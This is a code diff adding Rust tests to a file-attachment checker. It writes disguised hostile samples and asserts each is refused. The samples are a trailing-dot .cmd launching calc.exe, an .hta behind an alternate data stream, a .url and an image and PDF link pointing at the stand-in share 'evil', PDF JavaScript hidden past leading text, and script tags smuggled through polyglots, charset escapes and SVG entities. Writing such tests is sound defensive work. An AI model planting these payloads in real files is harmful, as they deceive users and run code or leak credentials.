@@ -516,3 +516,80 @@ fn a_package_whose_entries_differ_from_its_directory_is_refused() {
         "Office document whose ZIP entries differ from its directory",
     );
 }
+
+#[test]
+fn names_windows_would_run_or_open_as_another_format_are_refused() {
+    let sandbox = sandbox();
+    let cases: [(&str, &[u8], &str); 5] = [
+        (
+            "运行.cmd.",
+            b"start calc.exe\r\n",
+            "a name that runs when opened (.cmd)",
+        ),
+        (
+            "页面.hta::$DATA",
+            b"<p>x</p>",
+            "a name that runs when opened (.hta)",
+        ),
+        (
+            "快捷方式.url",
+            b"[InternetShortcut]\r\nURL=file://evil/s/x.exe\r\n",
+            "(.url)",
+        ),
+        // Text first, a PDF further in: a reader opening a .pdf looks for %PDF in the first KiB.
+        (
+            "说明.pdf",
+            "这是一份说明文字。\n%PDF-1.7\n1 0 obj << /S /JavaScript >> endobj\n%%EOF\n".as_bytes(),
+            "the name .pdf does not suit what it holds (text)",
+        ),
+        (
+            "图片.html",
+            b"\x89PNG\r\n\x1a\n<script>alert(1)</script>IEND",
+            "(PNG)",
+        ),
+    ];
+    for (name, bytes, reason) in cases {
+        let file = sandbox.write(name, bytes);
+        refused(&sandbox, &file, reason);
+    }
+}
+
+#[test]
+fn markup_and_pdfs_that_reach_a_network_share_or_build_themselves_are_refused() {
+    let sandbox = sandbox();
+    // A control character past the head: a decoder that drops it joins `<scr` and `ipt>`.
+    let mut late = "<meta charset=\"iso-2022-jp\"><p>《通知》</p>"
+        .repeat(400)
+        .into_bytes();
+    late.extend(b"<scr\x1b(Bipt>alert(1)</script>");
+    let cases: [(&str, Vec<u8>, &str); 5] = [
+        ("后段.html", late, "text with a control character at byte"),
+        (
+            "实体.svg",
+            b"<!DOCTYPE svg [<!ENTITY e \"&#60;script&#62;\">]><svg>&e;</svg>".to_vec(),
+            "markup that defines its own entities",
+        ),
+        (
+            "共享.html",
+            r#"<p>图</p><img src="\\evil\share\x.png">"#.as_bytes().to_vec(),
+            "markup that reaches a network share",
+        ),
+        (
+            "共享.pdf",
+            pdf(br"1 0 obj << /S /URI /URI (file://evil/share/x.pdf) >> endobj"),
+            "PDF that points to a network share",
+        ),
+        (
+            "间接.pdf",
+            pdf(b"5 0 obj << /Type /ObjStm /N 1 /First 4 /Filter 20 0 R /Length 3 >>\nstream\nabc\nendstream endobj"),
+            "another object cannot be checked",
+        ),
+    ];
+    for (name, bytes, reason) in cases {
+        let file = sandbox.write(name, &bytes);
+        refused(&sandbox, &file, reason);
+    }
+    // Old DOS editors end text with Ctrl-Z: kept.
+    let dos = sandbox.write("旧文本.txt", "《档案法》第一条\r\n\x1a".as_bytes());
+    sandbox.ok(&["attach", CODE, dos.to_str().unwrap()]);
+}
